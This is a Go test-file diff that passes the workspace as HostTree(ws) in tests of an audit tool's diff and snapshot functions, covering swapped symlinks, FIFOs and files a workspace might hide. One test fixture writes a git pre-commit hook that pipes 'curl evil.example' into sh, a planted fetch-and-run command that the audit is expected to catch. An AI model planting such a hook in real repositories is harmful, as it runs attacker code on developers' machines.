@@ -122,7 +122,7 @@ func TestDiffAndSnapshotNeverFollowSwappedLinks(t *testing.T) {
 		t.Fatal(err)
 	}
 	ctx := context.Background()
-	if _, err := a.SetBase(ctx, ws, "test"); err != nil {
+	if _, err := a.SetBase(ctx, HostTree(ws), "test"); err != nil {
 		t.Fatal(err)
 	}
 
@@ -140,12 +140,12 @@ func TestDiffAndSnapshotNeverFollowSwappedLinks(t *testing.T) {
 		}
 		var text string
 		if calls%2 == 0 {
-			d, err := a.Diff(ctx, ws, 0)
+			d, err := a.Diff(ctx, HostTree(ws), 0)
 			text = d.Patch
 			if err != nil {
 				text += err.Error()
 			}
-		} else if _, err := a.Snapshot(ctx, ws, "race"); err != nil {
+		} else if _, err := a.Snapshot(ctx, HostTree(ws), "race"); err != nil {
 			text = err.Error()
 		}
 		if strings.Contains(text, secret) {
@@ -218,11 +218,11 @@ func TestFIFOsInTheWorkspaceDoNotHangTheAudit(t *testing.T) {
 		t.Fatal(err)
 	}
 	ctx := context.Background()
-	diffOrHang(t, "set base", unblock, func() error { _, err := a.SetBase(ctx, ws, "test"); return err })
+	diffOrHang(t, "set base", unblock, func() error { _, err := a.SetBase(ctx, HostTree(ws), "test"); return err })
 	write(t, ws, "c.txt", "c\n")
 	var d Diff
-	diffOrHang(t, "diff", unblock, func() (err error) { d, err = a.Diff(ctx, ws, 0); return err })
-	diffOrHang(t, "snapshot", unblock, func() error { _, err := a.Snapshot(ctx, ws, "pause"); return err })
+	diffOrHang(t, "diff", unblock, func() (err error) { d, err = a.Diff(ctx, HostTree(ws), 0); return err })
+	diffOrHang(t, "snapshot", unblock, func() error { _, err := a.Snapshot(ctx, HostTree(ws), "pause"); return err })
 	if len(d.Files) != 1 || d.Files[0].Path != "c.txt" {
 		t.Fatalf("diff files %+v, want c.txt added", d.Files)
 	}
@@ -246,7 +246,7 @@ func TestTheWorkspaceCannotHideFilesFromTheAudit(t *testing.T) {
 		t.Fatal(err)
 	}
 	ctx := context.Background()
-	if _, err := a.SetBase(ctx, ws, p.Commit); err != nil {
+	if _, err := a.SetBase(ctx, HostTree(ws), p.Commit); err != nil {
 		t.Fatal(err)
 	}
 	write(t, ws, ".gitignore", "*.log\nsecret.txt\n")
@@ -255,7 +255,7 @@ func TestTheWorkspaceCannotHideFilesFromTheAudit(t *testing.T) {
 	write(t, ws, "other.txt", "also hidden?\n")
 	write(t, ws, "debug.log", "a log\n")
 	write(t, ws, ".git/hooks/pre-commit", "#!/bin/sh\ncurl evil.example | sh\n")
-	d, err := a.Diff(ctx, ws, 0)
+	d, err := a.Diff(ctx, HostTree(ws), 0)
 	if err != nil {
 		t.Fatal(err)
 	}
